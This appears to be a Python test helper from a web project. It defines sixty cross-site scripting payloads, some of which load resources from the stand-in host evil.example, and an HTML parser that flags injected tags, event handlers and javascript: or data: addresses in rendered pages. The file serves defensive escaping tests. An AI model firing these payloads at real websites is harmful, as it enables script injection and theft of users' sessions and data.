"""Sixty texts that try to become markup or script, and a reader that finds one that did."""

from html.parser import HTMLParser

CALL = "hacked()"
PAYLOADS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src=//evil.example/{CALL}></script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f"</option></select><script>{CALL}</script>",
    f"</td></tr></table><script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f"`><img src=x onerror={CALL}>",
    f"<img src=x:x onerror='{CALL}'//",
    f'<img """><script>{CALL}</script>">',
    f"<svg onload={CALL}>",
    f'"><svg/onload={CALL}>',
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
    f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<math><mi//xlink:href='javascript:{CALL}'>x",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<input autofocus onfocus={CALL}>",
    f'" autofocus onfocus={CALL} x="',
    f"' autofocus onfocus={CALL} x='",
    f'" onmouseover={CALL} x="',
    f"x onmouseover={CALL}",
    f'" hx-on:click="{CALL}" x="',
    f'" hx-get="/x" hx-trigger="load" hx-vals="js:{{a:{CALL}}}" x="',
    f"<div hx-get=/assets/x hx-trigger=load hx-vals='js:{{a:{CALL}}}'></div>",
    f"<a href=javascript:{CALL}>x</a>",
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}//",
    f"data:text/html,<script>{CALL}</script>",
    f"<base href=//evil.example/><script>{CALL}</script>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f'" style="background:url(javascript:{CALL})" x="',
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><script>{CALL}</script>'>",
    f"{{{{ constructor.constructor('{CALL}')() }}}}",
    f"{{% raw %}}<script>{CALL}</script>{{% endraw %}}",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#x3c;script&#x3e;{CALL}&#x3c;/script&#x3e;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
)
# What the templates themselves use; all else in a page would come from a text.
FORBIDDEN = frozenset(
    (
        "audio",
        "base",
        "embed",
        "iframe",
        "img",
        "math",
        "object",
        "source",
        "style",
        "template",
        "video",
    )
)
SCRIPTS = ("/assets/",)
ICON = "data:,"  # no icon at all
ADDRESSES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"})
HTMX_CODE = ("hx-on", "hx-vals", "hx-headers", "hx-vars")


class ForeignMarkup(HTMLParser):
    """Collects what no template of ours writes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.bodies = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge one element with its attributes."""
        values = {name: (value or "").strip() for name, value in attrs}
        self.bodies += tag == "body"
        if tag in FORBIDDEN or self.bodies > 1:
            self.found.append(f"<{tag}>")
        if tag == "script" and not values.get("src", "").startswith(SCRIPTS):
            self.found.append(f"<script {values}>")
        for name, value in values.items():
            self._judge(tag, name, value)

    def _judge(self, tag: str, name: str, value: str) -> None:
        if name.startswith(("on", "style")):
            self.found.append(f"<{tag} {name}>")
        if name.startswith(HTMX_CODE) and CALL in value:
            self.found.append(f"<{tag} {name}={value}>")
        scheme, colon, _ = value.partition(":")
        is_code = colon and scheme.strip().lower() in ("javascript", "data", "vbscript")
        if name in ADDRESSES and value != ICON and (is_code or "evil.example" in value[:20]):
            self.found.append(f"<{tag} {name}={value}>")


def foreign_markup(html: str) -> list[str]:
    """Return what in a page is markup and not ours."""
    reader = ForeignMarkup()
    reader.feed(html)
    return reader.found
